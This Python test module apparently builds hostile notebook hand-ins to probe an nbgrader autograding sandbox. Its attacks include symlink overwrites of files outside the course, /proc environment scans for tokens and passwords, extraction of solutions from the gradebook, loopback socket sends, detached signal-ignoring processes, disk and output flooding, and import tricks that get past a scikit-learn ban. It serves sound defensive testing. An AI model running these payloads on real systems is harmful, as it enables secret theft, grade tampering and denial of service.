"""Hostile hand-ins aimed at the autograde process itself, not at the grades.

``attacks.py`` cheats on the grading; these hand-ins go after what lies around
it: the files nbgrader writes and reads (through symbolic links), the
metadata that used to stop the run, the secrets of nbgrader's environment,
the network, processes that outlive the run, the disk and nbgrader's memory,
and the ready-made network of scikit-learn reached through a back door.

Each attacker hands in the target notebook (``06_2_activations.ipynb``, or
``06_4_entrainement.ipynb`` for the back doors) built from the release: one
honest answer (the layout's ``honest`` function, or ``initialize_parameters``
in 06_4) and the attack in the answer cell of the ``target`` function (or of
``train_digits_model``). Right after each attacker, in nbgrader's sort order,
comes a classmate who hands in a correct ``06_2_activations.ipynb``.

Everything an attack aims at is given by the :class:`Context`: canary files
inside and outside the course, loopback listeners, a marker for the processes
it starts. Absolute paths are written into the cells in base64, so that a
page showing the course's path shows a leak, never the attack's own source.
"""

from __future__ import annotations

import base64
import copy
import os
import pickle
import re
import secrets
import socket
import string
import tempfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import nbformat

from grading_tests.course import handins
from grading_tests.runner import registry as grader_registry

ASSIGNMENT = handins.ASSIGNMENT
NB2 = "06_2_activations.ipynb"
NB4 = "06_4_entrainement.ipynb"
DIGITS_HONEST = "initialize_parameters"
DIGITS_TARGET = "train_digits_model"
# A fixed, old mtime for every canary: a write shows even if the content is put back.
CANARY_MTIME = 978_307_200  # 2001-01-01


# --- what the attacks aim at ---------------------------------------------------------


@dataclass
class Canary:
    path: Path
    content: bytes
    aimed_by: str  # the attacks that target it, for the messages

    @property
    def token(self):
        return self.content.decode().split()[-1]


def make_canary(path, name, aimed_by):
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    content = f"canari {name} : ce fichier ne doit jamais changer {secrets.token_hex(12)}\n".encode()
    path.write_bytes(content)
    os.utime(path, (CANARY_MTIME, CANARY_MTIME))
    return Canary(path, content, aimed_by)


class Listeners:
    """Loopback listeners that no hand-in may reach: UDP (IPv4, IPv6), TCP, UNIX
    stream and datagram sockets in a folder outside the course, an abstract
    UNIX socket. All non-blocking; :meth:`drain` says what reached them."""

    def __init__(self, folder):
        folder = Path(folder)
        folder.mkdir(parents=True, exist_ok=True)
        self.sockets = {}
        self.udp4 = self._bind("udp4", socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", 0))
        try:
            self.udp6 = self._bind("udp6", socket.AF_INET6, socket.SOCK_DGRAM, ("::1", 0))
        except OSError:
            self.udp6 = None  # no IPv6 loopback here
        self.tcp = self._bind("tcp", socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 0), listen=True)
        self.unix_stream = str(folder / "ecoute.sock")
        self._bind("unix_stream", socket.AF_UNIX, socket.SOCK_STREAM, self.unix_stream, listen=True)
        self.unix_dgram = str(folder / "datagrammes.sock")
        self._bind("unix_dgram", socket.AF_UNIX, socket.SOCK_DGRAM, self.unix_dgram)
        self.abstract = f"rn-canari-{secrets.token_hex(6)}"
        self._bind("abstract", socket.AF_UNIX, socket.SOCK_STREAM, "\0" + self.abstract, listen=True)

    def _bind(self, name, family, kind, address, listen=False):
        sock = socket.socket(family, kind)
        try:
            sock.bind(address)
            if listen:
                sock.listen(64)
            sock.setblocking(False)
        except OSError:
            sock.close()
            raise
        self.sockets[name] = (sock, listen)
        return sock.getsockname()[1] if family in (socket.AF_INET, socket.AF_INET6) else address

    def drain(self):
        """[(listener, payload)] of everything that arrived, without waiting."""
        got = []
        for name, (sock, listening) in self.sockets.items():
            while True:
                try:
                    if listening:
                        conn, _ = sock.accept()
                    else:
                        data, _ = sock.recvfrom(65536)
                        got.append((name, data))
                        continue
                except (BlockingIOError, InterruptedError):
                    break
                conn.settimeout(0.5)
                try:
                    data = conn.recv(65536)
                except OSError:
                    data = b""
                conn.close()
                got.append((name, data or b"(connexion sans donnees)"))
        return got

    def close(self):
        for sock, _ in self.sockets.values():
            sock.close()


@dataclass
class Context:
    root: Path  # the course root (absolute)
    outside: Path  # a folder outside the course
    canaries: dict  # name -> Canary
    listeners: Listeners
    marker: str  # in the argv of every process an attack starts (then two digits: the attack)
    secrets: dict  # environment of nbgrader: name -> canary value
    pickled_mlp: str = ""  # base64 of an unfitted MLPClassifier

    def marker_for(self, attack):
        """The marker of one attack's processes: ``sleep <marker_for>`` is a valid sleep."""
        return f"{self.marker}{ATTACK_BY_NAME[attack].order:02d}"

    def attack_of(self, text):
        """The attack whose marker appears in ``text`` (a command line, a file name)."""
        found = re.search(re.escape(self.marker) + r"(\d\d)", text)
        if found:
            for attack in ATTACKS:
                if attack.order == int(found.group(1)):
                    return attack.name
        return "?"


def make_context(base, root):
    """Canaries, listeners, marker and secrets for one campaign under ``base``."""
    base, root = Path(base).resolve(), Path(root).resolve()
    outside = base / "dehors"
    outside.mkdir(exist_ok=True)
    canaries = {
        "dehors_1": make_canary(outside / "canari_dehors_1.txt", "dehors_1", "lien_dehors (le notebook)"),
        "dehors_2": make_canary(outside / "canari_dehors_2.txt", "dehors_2", "lien_dehors (outils_cours.py)"),
        "dehors_3": make_canary(outside / "canari_dehors_3.txt", "dehors_3", "lien_dehors (lien dur)"),
        "dehors_4": make_canary(outside / "canari_dehors_4.txt", "dehors_4", "lien_differe (outils_cours.py)"),
        "dehors_5": make_canary(outside / "canari_dehors_5.txt", "dehors_5", "remis_liens (canari.txt)"),
        "cours": make_canary(root / "canari_cours.txt", "cours", "lien_source (outils_cours.py)"),
        "source": make_canary(root / "source" / "canari_source.txt", "source", "lien_voisin (page de retour)"),
    }
    token = secrets.token_hex(10)
    env = {
        "JUPYTERHUB_API_TOKEN": f"canari-secret-jupyterhub-{token}",
        "PGPASSWORD": f"canari-secret-pg-{token}",
        "RN_CANARI_SECRET": f"canari-secret-env-{token}",
    }
    listeners = Listeners(tempfile.mkdtemp(prefix="rn-ecoute-", dir=str(outside)))
    marker = f"4242.{secrets.randbelow(10**6):06d}"
    return Context(root, outside, canaries, listeners, marker, env, _pickled_mlp())


def _pickled_mlp():
    from sklearn.neural_network import MLPClassifier

    return base64.b64encode(pickle.dumps(MLPClassifier(hidden_layer_sizes=(64,), max_iter=80, random_state=0))).decode()


def b64(path):
    return base64.b64encode(str(path).encode()).decode()


# --- building hand-ins -----------------------------------------------------------------


@dataclass
class HandIn:
    notebooks: dict  # name -> notebook node, or raw text
    links: dict = field(default_factory=dict)  # name in the hand-in -> symlink target (as written)
    extra: dict = field(default_factory=dict)  # name -> text
    folders: list = field(default_factory=list)  # names of folders to create (each with a file)
    fifos: list = field(default_factory=list)  # names of named pipes to create
    timestamp: str = handins.TIMESTAMP


@dataclass(frozen=True)
class Attack:
    name: str
    kind: str  # the attack class, in the words of the issue
    build: Callable  # (Layout, Context, Pair) -> HandIn
    earns: str = "honest"  # "honest": the honest function; "nothing"; "digits": initialize_parameters of 06_4
    notebook: str = NB2
    anomaly: bool = False  # bad metadata: a notice cell and a line in logs/<assignment>/anomalies.txt
    order: int = 0  # position in the sort order (run stoppers last)


@dataclass(frozen=True)
class Pair:
    attacker: str
    victim: str


PRELUDE = '''import base64 as _base64
import os

def _chemin(code):
    return _base64.b64decode(code).decode()

# The worker shows student code an IPython shell too (grading_tests/_notebook.py); only a kernel's has a kernel.
DANS_LE_NOYAU = getattr(globals().get("get_ipython", lambda: None)(), "kernel", None) is not None
'''


def _code(template, **values):
    return string.Template(template).substitute(**values)


def _attack_nb(L, code, function=None):
    """The target notebook: release, honest answer, ``code`` as the target's answer."""
    nb = L.base()
    handins.answer_cell(nb, function or L.target).source = PRELUDE + "\n" + code
    return nb


def victim_notebook(L):
    """A correct 06_2: every code answer from the source, written answers left blank."""
    nb = copy.deepcopy(L.release[NB2])
    solved = L.solved[NB2]
    for cell, good in zip(nb.cells, solved.cells):
        meta = cell.metadata.get("nbgrader", {})
        if cell.cell_type == "code" and meta.get("solution"):
            cell.source = good.source
    return nb


def _links_cell(links, extra=""):
    """A cell that replaces files of its working folder by symbolic links."""
    lines = ["LIENS = {"]
    for name, target in links.items():
        lines.append(f"    {name!r}: {target},")
    lines.append("}")
    body = "\n".join(lines)
    return body + '''
for nom, cible in LIENS.items():
    try:
        if os.path.lexists(nom):
            os.remove(nom)
        os.symlink(cible, nom)
        print("lien posé :", nom)
    except OSError as erreur:
        print("lien refusé :", nom, type(erreur).__name__)
''' + extra


# 1. Writes through links ---------------------------------------------------------------


def lien_dehors(L, ctx, pair):
    links = {
        NB2: f'_chemin("{b64(ctx.canaries["dehors_1"].path)}")',
        "outils_cours.py": f'_chemin("{b64(ctx.canaries["dehors_2"].path)}")',
        "verifications.py": '"/proc/self/environ"',
    }
    extra = f'''try:
    os.link(_chemin("{b64(ctx.canaries["dehors_3"].path)}"), "notes_lien_dur.txt")
    print("lien dur posé")
except OSError as erreur:
    print("lien dur refusé :", type(erreur).__name__)
'''
    return HandIn({NB2: _attack_nb(L, _links_cell(links, extra))})


def lien_voisin(L, ctx, pair):
    victim_nb = ctx.root / "submitted" / pair.victim / ASSIGNMENT / NB2
    links = {NB2: f'_chemin("{b64(victim_nb)}")', "timestamp.txt": '"../../../gradebook.db"'}
    page = ctx.root / "feedback" / pair.attacker / ASSIGNMENT
    extra = f'''# La page de retour que generate_feedback écrira plus tard.
for dossier in ("../../../feedback/{pair.attacker}/{ASSIGNMENT}", _chemin("{b64(page)}")):
    try:
        os.makedirs(dossier, exist_ok=True)
        os.symlink(_chemin("{b64(ctx.canaries["source"].path)}"), os.path.join(dossier, "06_2_activations.html"))
        print("page de retour piégée")
    except OSError as erreur:
        print("page de retour refusée :", type(erreur).__name__)
'''
    return HandIn({NB2: _attack_nb(L, _links_cell(links, extra))})


def lien_source(L, ctx, pair):
    source = ctx.root / "source" / ASSIGNMENT
    links = {
        NB2: f'_chemin("{b64(source / NB2)}")',
        "outils_cours.py": f'_chemin("{b64(ctx.canaries["cours"].path)}")',
        "verifications.py": f'_chemin("{b64(source / NB4)}")',
        "06_1_perceptron.ipynb": f'"../../../source/{ASSIGNMENT}/06_1_perceptron.ipynb"',
    }
    return HandIn({NB2: _attack_nb(L, _links_cell(links))})


def lien_carnet(L, ctx, pair):
    links = {NB2: f'_chemin("{b64(ctx.root / "gradebook.db")}")', "outils_cours.py": '"../../../gradebook.db"'}
    return HandIn({NB2: _attack_nb(L, _links_cell(links))})


WATCHER = r'''
import os, sys, time
source, canari = sys.argv[1], sys.argv[2]
fin = time.time() + 300
nb = "06_2_activations.ipynb"
while time.time() < fin:
    try:
        if os.path.isfile(nb) and not os.path.islink(nb) and os.path.getsize(nb) > 0:
            time.sleep(0.3)
            os.remove(nb)
            os.symlink(source, nb)
            if os.path.lexists("outils_cours.py"):
                os.remove("outils_cours.py")
            os.symlink(canari, "outils_cours.py")
            break
    except OSError:
        pass
    time.sleep(0.1)
'''


def lien_differe(L, ctx, pair):
    """A process that outlives the kernel replaces the autograded notebook,
    once nbgrader has written it, by a link to the source (solutions for the
    feedback page), and outils_cours.py by a link to a canary."""
    code = _code('''import subprocess, sys
SURVEILLANT = $watcher
if DANS_LE_NOYAU:
    try:
        subprocess.Popen(
            [sys.executable, "-c", SURVEILLANT, _chemin("$source"), _chemin("$canary"), "$marker"],
            start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        )
        print("surveillant lancé")
    except Exception as erreur:
        print("surveillant refusé :", type(erreur).__name__)
''', watcher=repr(WATCHER), source=b64(ctx.root / "source" / ASSIGNMENT / NB2),
        canary=b64(ctx.canaries["dehors_4"].path), marker=ctx.marker_for("lien_differe"))
    return HandIn({NB2: _attack_nb(L, code)})


READ_FILES = '''import re, stat
MOTIFS = re.compile(r"return|SOLUTION|MARK SCHEME|Barème|canari|SQLite|BEGIN", re.I)
for nom in $names:
    try:
        if stat.S_ISFIFO(os.stat(nom).st_mode):
            print(nom, ": un tube nommé, pas lu")
            continue
        with open(nom, "rb") as fichier:
            texte = fichier.read(4_000_000).decode("utf-8", "replace")
        print(nom, ":", texte[:16].encode())
        print("\\n".join([ligne[:300] for ligne in texte.splitlines() if MOTIFS.search(ligne)][:60]))
    except OSError as erreur:
        print(nom, ": illisible", type(erreur).__name__)
'''


def remis_liens(L, ctx, pair):
    """A hand-in whose extra files are symbolic links."""
    links = {
        "notes.txt": f"../../{pair.victim}/{ASSIGNMENT}/{NB2}",
        "carnet.txt": "../../../gradebook.db",
        "zero.bin": "/dev/zero",
        "canari.txt": str(ctx.canaries["dehors_5"].path),
        "source.txt": str(ctx.root / "source" / ASSIGNMENT / NB4),
        "voisin": f"../../{pair.victim}/{ASSIGNMENT}",  # a folder
        "boucle.txt": "boucle.txt",  # a link to itself
    }
    names = [*links, "voisin/06_2_activations.ipynb", "tube.txt"]
    code = _code(READ_FILES, names=repr(names))
    return HandIn({NB2: _attack_nb(L, code)}, links=links, fifos=["tube.txt"])


def remis_nb_lien(L, ctx, pair):
    """The notebook itself is a link to the classmate's hand-in."""
    return HandIn({}, links={NB2: f"../../{pair.victim}/{ASSIGNMENT}/{NB2}"})


# 2. Metadata edits and bad files -------------------------------------------------------


def _stub(L):
    return _attack_nb(L, f"def {L.target}(z):\n    return 1.0")


def schema_v4(L, ctx, pair):
    nb = _stub(L)
    handins.answer_cell(nb, L.target).metadata.nbgrader["schema_version"] = 4
    return HandIn({NB2: nb})


def reponse_notee(L, ctx, pair):
    """An answer cell that claims to be graded (in-kernel grading of its output)."""
    nb = _attack_nb(L, f"def {L.target}(z):\n    return 1.0\n\n1.0")
    handins.answer_cell(nb, L.target).metadata.nbgrader.update(grade=True, points=1)
    return HandIn({NB2: nb})


def test_en_reponse(L, ctx, pair):
    """A locked test cell flagged as an answer: the student's code would replace it."""
    nb = _stub(L)
    third = L.functions[L.target_nb][2]
    test = handins.test_cell(nb, third)
    test.metadata.nbgrader.update(solution=True, locked=False)
    test.source = "1.0"
    return HandIn({NB2: nb})


def reponse_en_code(L, ctx, pair):
    """A written (markdown) answer turned into a graded code cell."""
    nb = _stub(L)
    for index, cell in enumerate(nb.cells):
        meta = cell.metadata.get("nbgrader", {})
        if cell.cell_type == "markdown" and meta.get("solution") and meta.get("grade"):
            code = nbformat.v4.new_code_cell("2.0")
            code.metadata = copy.deepcopy(cell.metadata)
            code.metadata.nbgrader["cell_type"] = "code"
            nb.cells[index] = code
            break
    else:
        raise AssertionError("no written answer in the target notebook")
    return HandIn({NB2: nb})


def dossier_ipynb(L, ctx, pair):
    return HandIn({NB2: _stub(L)}, folders=["06_3_propagation.ipynb"])


def horodatage(L, ctx, pair):
    return HandIn({NB2: _stub(L)}, timestamp="pas une date \x00 ☃ 9999-99-99T99:99 ; DROP TABLE grade;")


# 3. Secrets ----------------------------------------------------------------------------


def secrets_noyau(L, ctx, pair):
    code = '''print("environnement :", dict(os.environ))
parent = os.getppid()
for chemin in (f"/proc/{parent}/environ", "/proc/1/environ", f"/proc/{parent}/cmdline", "/proc/self/environ"):
    try:
        with open(chemin, "rb") as fichier:
            print(chemin, ":", fichier.read().replace(b"\\0", b"\\n").decode("utf-8", "replace")[:20000])
    except OSError as erreur:
        print(chemin, ": refusé", type(erreur).__name__)
for lien in (f"/proc/{parent}/cwd", "/proc/1/cwd"):
    try:
        print(lien, "->", os.readlink(lien))
    except OSError as erreur:
        print(lien, ": refusé", type(erreur).__name__)
'''
    return HandIn({NB2: _attack_nb(L, code)})


def secrets_balayage(L, ctx, pair):
    """Scan /proc for secrets; the graded function sends what it finds back in
    an error message, which the graders quote in the feedback."""
    code = f'''import re
SECRET = re.compile(r"canari|TOKEN|PASSWORD|SECRET", re.I)

def _fouiller():
    trouve = []
    try:
        processus = os.listdir("/proc")
    except OSError:
        processus = []
    for pid in processus:
        if not pid.isdigit():
            continue
        for quoi in ("environ", "cmdline"):
            try:
                with open(f"/proc/{{pid}}/{{quoi}}", "rb") as fichier:
                    morceaux = fichier.read().split(b"\\0")
            except OSError:
                continue
            trouve += [f"{{pid}}/{{quoi}} : {{m.decode('utf-8', 'replace')[:200]}}" for m in morceaux if SECRET.search(m.decode("utf-8", "replace"))]
        try:
            trouve.append(f"{{pid}}/cwd -> {{os.readlink(f'/proc/{{pid}}/cwd')}}")
        except OSError:
            pass
    trouve += [f"{{k}}={{v}}" for k, v in os.environ.items() if SECRET.search(k + v)]
    return trouve

trouvailles = _fouiller()
print(len(trouvailles), "trouvailles")
print("\\n".join(trouvailles[:250]))

def {L.target}(z):
    secrets = [t for t in _fouiller() if SECRET.search(t)]
    raise RuntimeError(" | ".join(secrets)[:480] or "rien trouvé")
'''
    return HandIn({NB2: _attack_nb(L, code)})


def bareme(L, ctx, pair):
    """Print the rubric and the solutions: other notebooks of the working
    folder, the sources and the gradebook, by relative and absolute path.
    The rubrics close the written answers' cells in the sources and the
    gradebook, and the autograded notebooks get them back after the kernel
    has run: none of it may reach the kernel's outputs or the feedback."""
    code = f'''import glob, re, sqlite3
DEBUT, FIN = "BEGIN " + "{{}}", "END " + "{{}}"  # pas le texte des marqueurs dans la cellule
SECRETS = re.compile("|".join(f"{{DEBUT.format(m)}}(.*?){{FIN.format(m)}}" for m in ("MARK " + "SCHEME", "SOLU" + "TION")), re.S)

def _montrer(origine, texte):
    for trouve in SECRETS.finditer(texte):
        print(origine, ":", trouve.group(0)[:3000])

racine = _chemin("{b64(ctx.root)}")
motifs = ["*.ipynb", "*/*.ipynb", "../*.ipynb", "../../*/*/*.ipynb", "../../../source/*/*.ipynb",
          "../../../autograded/*/*/*.ipynb", racine + "/source/*/*.ipynb", racine + "/autograded/*/*/*.ipynb",
          racine + "/submitted/*/*/*.ipynb"]
for motif in motifs:
    for chemin in sorted(glob.glob(motif))[:40]:
        try:
            with open(chemin, encoding="utf-8", errors="replace") as fichier:
                _montrer(os.path.basename(chemin), fichier.read())
        except OSError as erreur:
            print("illisible :", type(erreur).__name__)
for base in ("../../../gradebook.db", racine + "/gradebook.db"):
    try:
        connexion = sqlite3.connect(f"file:{{base}}?mode=ro", uri=True)
        for (texte,) in connexion.execute("SELECT source FROM source_cell"):
            _montrer("carnet", texte or "")
        print("carnet lu")
    except Exception as erreur:
        print("carnet refusé :", type(erreur).__name__)
'''
    return HandIn({NB2: _attack_nb(L, code)})


# 4. Network -----------------------------------------------------------------------------


NETWORK = '''import socket, struct

def _envoyer(etiquette):
    """Reach every loopback listener; {channel: outcome}."""
    charge = f"$attack:{etiquette}".encode()
    issues = {}

    def essai(canal, action):
        try:
            action(charge + b":" + canal.encode())
            issues[canal] = "envoyé"
        except Exception as erreur:
            issues[canal] = type(erreur).__name__

    def udp4(donnees):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(donnees, ("127.0.0.1", $udp4))

    def udp6(donnees):
        if $udp6:
            with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
                s.sendto(donnees, ("::1", $udp6))

    def udp_brut(donnees):  # a hand-made UDP datagram through a raw socket
        with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP) as s:
            s.sendto(struct.pack("!HHHH", 40000, $udp4, 8 + len(donnees), 0) + donnees, ("127.0.0.1", 0))

    def tcp(donnees):
        with socket.create_connection(("127.0.0.1", $tcp), timeout=2) as s:
            s.sendall(donnees)

    def unix_flux(donnees):
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(2)
            s.connect(_chemin("$unix_stream"))
            s.sendall(donnees)

    def unix_datagramme(donnees):
        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as s:
            s.sendto(donnees, _chemin("$unix_dgram"))

    def abstrait(donnees):
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
            s.settimeout(2)
            s.connect("\\0$abstract")
            s.sendall(donnees)

    for canal, action in [("udp4", udp4), ("udp6", udp6), ("udp_brut", udp_brut), ("tcp", tcp),
                          ("unix_flux", unix_flux), ("unix_datagramme", unix_datagramme), ("abstrait", abstrait)]:
        essai(canal, action)
    return issues
'''


def _network(ctx, attack):
    lis = ctx.listeners
    return _code(
        NETWORK, attack=attack, udp4=lis.udp4, udp6=lis.udp6 or 0, tcp=lis.tcp,
        unix_stream=b64(lis.unix_stream), unix_dgram=b64(lis.unix_dgram), abstract=lis.abstract,
    )


def reseau_noyau(L, ctx, pair):
    code = _network(ctx, "reseau_noyau") + '''
print(_envoyer("noyau" if DANS_LE_NOYAU else "correcteur-chargement"))
'''
    return HandIn({NB2: _attack_nb(L, code)})


PROCESS_CHILD = '''
def _enfant(preparer):
    """fork; in the child: preparer(), then exec sleep <marker> (fds closed)."""
    pid = os.fork()
    if pid == 0:
        try:
            os.closerange(3, 4096)
            preparer()
            os.execvp("sleep", ["sleep", "$marker"])
        finally:
            os._exit(0)
    return pid
'''


def correcteur_hostile(L, ctx, pair):
    """The graded function itself, called by the grading worker: network,
    real-time priority, processes, environment."""
    marker = ctx.marker_for("correcteur_hostile")
    code = _network(ctx, "correcteur_hostile") + _code(PROCESS_CHILD, marker=marker) + f'''
import numpy as np
_FAIT = []

def {L.target}(z):
    if not _FAIT:
        _FAIT.append(1)
        ou = "noyau" if DANS_LE_NOYAU else "correcteur"
        _envoyer(ou + "-fonction")
        try:
            os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(10))
        except Exception:
            pass
        try:
            os.nice(-5)
        except Exception:
            pass
        try:
            import subprocess
            subprocess.Popen(["sleep", "{marker}"], start_new_session=True, stdin=subprocess.DEVNULL,
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        except Exception:
            pass
        try:
            os.waitpid(_enfant(os.setsid), 0)
        except Exception:
            pass
        try:
            os.sched_setscheduler(0, os.SCHED_OTHER, os.sched_param(0))
        except Exception:
            pass
    return None  # rien de juste : pas de point
'''
    return HandIn({NB2: _attack_nb(L, code)})


# 5. Processes and resources ------------------------------------------------------------


def processus(L, ctx, pair):
    marker = ctx.marker_for("processus")
    code = _code(PROCESS_CHILD, marker=marker) + _code('''import signal, subprocess, sys
issues = {}

def essai(nom, action):
    try:
        action()
        issues[nom] = "accordé"
    except Exception as erreur:
        issues[nom] = type(erreur).__name__

RIEN = dict(stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
essai("temps réel", lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(10)))
essai("nice négatif", lambda: os.nice(-5))
essai("priorité négative", lambda: os.setpriority(os.PRIO_PROCESS, 0, -10))
essai("popen nouvelle session", lambda: subprocess.Popen(["sleep", "$marker"], start_new_session=True, **RIEN))

def double_fork():
    def seconde():
        try:
            os.setsid()
        except OSError:
            pass
        if os.fork() != 0:
            os._exit(0)
    os.waitpid(_enfant(seconde), 0)

essai("double fork + setsid", double_fork)

def groupe():
    def nouveau_groupe():
        try:
            os.setpgid(0, 0)
        except OSError:
            pass
    _enfant(nouveau_groupe)

essai("fork + setpgid", groupe)
SOURD = "import signal, time; signal.signal(signal.SIGTERM, signal.SIG_IGN); signal.signal(signal.SIGHUP, signal.SIG_IGN); time.sleep(4242)"
essai("python sourd à SIGTERM", lambda: subprocess.Popen([sys.executable, "-c", SOURD, "$marker"], **RIEN))
essai("nohup", lambda: subprocess.Popen(["nohup", "sleep", "$marker"], **RIEN))
essai("setsid(1)", lambda: subprocess.Popen(["setsid", "sleep", "$marker"], **RIEN))
essai("retour à la normale", lambda: os.sched_setscheduler(0, os.SCHED_OTHER, os.sched_param(0)))
print(issues)
''', marker=marker)
    return HandIn({NB2: _attack_nb(L, code)})


def disque(L, ctx, pair):
    code = _code('''import tempfile
if DANS_LE_NOYAU:
    print("dossier de travail :", os.getcwd(), flush=True)
    print("dossier temporaire :", tempfile.gettempdir(), flush=True)
    bloc = os.urandom(1 << 20) * 16  # 16 Mio, incompressible
    ecrits = 0
    for numero in range(64):  # 1 Gio
        dossier = os.getcwd() if numero % 2 == 0 else tempfile.gettempdir()
        try:
            with open(os.path.join(dossier, f"bourrage_${marker}_{numero:02d}.bin"), "wb") as fichier:
                fichier.write(bloc)
            ecrits += 1
        except OSError as erreur:
            print("écriture refusée :", numero, type(erreur).__name__)
            break
    print("écrits :", 16 * ecrits, "Mio")
''', marker=ctx.marker_for("disque"))
    return HandIn({NB2: _attack_nb(L, code)})


def sorties(L, ctx, pair):
    """A huge display_data, then a print without end, in two cells."""
    nb = _attack_nb(L, '''if DANS_LE_NOYAU:
    from IPython.display import display
    enorme = {"text/plain": "y" * 8_000_000}
    for _ in range(40):  # 320 Mo
        display(enorme, raw=True)
''')
    loop = nbformat.v4.new_code_cell('if "get_ipython" in globals():\n    while True:\n        print("x" * 100000)')
    index = next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == L.target)
    nb.cells.insert(index + 1, loop)
    return HandIn({NB2: nb})


# 6. The ready-made network through the back door ----------------------------------------


TRAIN = '''
def _entrainer(reseau, X_train, y_train):
    import warnings
    import numpy as np
    y = np.asarray(y_train)
    if y.ndim == 2:
        y = y.argmax(axis=1)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        reseau.fit(np.asarray(X_train, dtype=float), y)
    parametres = {}
    for l, (W, b) in enumerate(zip(reseau.coefs_, reseau.intercepts_), start=1):
        parametres[f"W{l}"] = np.ascontiguousarray(W.T)
        parametres[f"b{l}"] = b.reshape(1, -1).copy()
    return parametres


def train_digits_model(X_train, y_train):
    return _entrainer(_reseau(), X_train, y_train)
'''

BY_PATH = '''import importlib.util, sys, types
import sklearn

def _reseau():
    nom = "sklearn." + "neural_" + "network"
    dossier = os.path.join(os.path.dirname(sklearn.__file__), "neural_" + "network")
    if nom not in sys.modules:
        paquet = types.ModuleType(nom)
        paquet.__path__ = [dossier]
        sys.modules[nom] = paquet
    for partie in ("_base", "_stochastic_optimizers", "_multilayer_perceptron"):
        complet = nom + "." + partie
        if complet not in sys.modules:
            spec = importlib.util.spec_from_file_location(complet, os.path.join(dossier, partie + ".py"))
            module = importlib.util.module_from_spec(spec)
            sys.modules[complet] = module
            spec.loader.exec_module(module)
    return sys.modules[nom + "._multilayer_perceptron"].MLPClassifier(hidden_layer_sizes=(64,), max_iter=80, random_state=0)
'''

BY_EXEC = '''import sys, types
import sklearn

def _reseau():
    nom = "sklearn." + "neural_" + "network"
    dossier = os.path.join(os.path.dirname(sklearn.__file__), "neural_" + "network")
    if nom not in sys.modules:
        paquet = types.ModuleType(nom)
        paquet.__path__ = [dossier]
        sys.modules[nom] = paquet
    for partie in ("_base", "_stochastic_optimizers", "_multilayer_perceptron"):
        complet = nom + "." + partie
        if complet not in sys.modules:
            module = types.ModuleType(complet)
            module.__file__ = os.path.join(dossier, partie + ".py")
            module.__package__ = nom
            sys.modules[complet] = module
            exec(compile(open(module.__file__).read(), module.__file__, "exec"), module.__dict__)
    return sys.modules[nom + "._multilayer_perceptron"].MLPClassifier(hidden_layer_sizes=(64,), max_iter=80, random_state=0)
'''

BY_NAME = '''import importlib

def _reseau():
    module = importlib.import_module("sklearn." + "neural_" + "network")
    return getattr(module, "MLP" + "Classifier")(hidden_layer_sizes=(64,), max_iter=80, random_state=0)
'''

BY_PICKLE = '''import pickle

RESEAU = "$pickled"

def _reseau():
    return pickle.loads(_base64.b64decode(RESEAU))
'''


def _digits_nb(L, code):
    nb = copy.deepcopy(L.release[NB4])
    handins.answer_cell(nb, DIGITS_HONEST).source = handins.answer_cell(L.solved[NB4], DIGITS_HONEST).source
    handins.answer_cell(nb, DIGITS_TARGET).source = PRELUDE + "\n" + code + TRAIN
    return nb


def mlp_par_chemin(L, ctx, pair):
    return HandIn({NB4: _digits_nb(L, BY_PATH)})


def mlp_par_exec(L, ctx, pair):
    return HandIn({NB4: _digits_nb(L, BY_EXEC)})


def mlp_par_nom(L, ctx, pair):
    return HandIn({NB4: _digits_nb(L, BY_NAME)})


def mlp_par_pickle(L, ctx, pair):
    return HandIn({NB4: _digits_nb(L, _code(BY_PICKLE, pickled=ctx.pickled_mlp))})


LINKS, META, SECRETS, NET, PROC, BACKDOOR = (
    "liens", "métadonnées", "secrets", "réseau", "processus et ressources", "réseau tout fait",
)

ATTACKS = [
    Attack("lien_dehors", LINKS, lien_dehors, order=1),
    Attack("lien_voisin", LINKS, lien_voisin, order=2),
    Attack("lien_source", LINKS, lien_source, order=3),
    Attack("lien_differe", LINKS, lien_differe, order=4),
    Attack("remis_liens", LINKS, remis_liens, order=5),
    Attack("remis_nb_lien", LINKS, remis_nb_lien, earns="nothing", order=6),
    Attack("reponse_notee", META, reponse_notee, anomaly=True, order=10),
    Attack("test_en_reponse", META, test_en_reponse, anomaly=True, order=11),
    Attack("reponse_en_code", META, reponse_en_code, anomaly=True, order=12),
    Attack("dossier_ipynb", META, dossier_ipynb, order=13),
    Attack("horodatage", META, horodatage, order=14),
    Attack("secrets_noyau", SECRETS, secrets_noyau, order=20),
    Attack("secrets_balayage", SECRETS, secrets_balayage, order=21),
    Attack("bareme", SECRETS, bareme, order=22),
    Attack("reseau_noyau", NET, reseau_noyau, order=30),
    Attack("correcteur_hostile", NET, correcteur_hostile, order=31),
    Attack("processus", PROC, processus, order=40),
    Attack("disque", PROC, disque, order=41),
    Attack("sorties", PROC, sorties, order=42),
    Attack("mlp_par_chemin", BACKDOOR, mlp_par_chemin, earns="digits", notebook=NB4, order=50),
    Attack("mlp_par_exec", BACKDOOR, mlp_par_exec, earns="digits", notebook=NB4, order=51),
    Attack("mlp_par_nom", BACKDOOR, mlp_par_nom, earns="digits", notebook=NB4, order=52),
    Attack("mlp_par_pickle", BACKDOOR, mlp_par_pickle, earns="digits", notebook=NB4, order=53),
    # Last: on stock nbgrader the first stops the whole run and the second
    # overwrites the gradebook, which would hide every other result.
    Attack("schema_v4", META, schema_v4, anomaly=True, order=98),
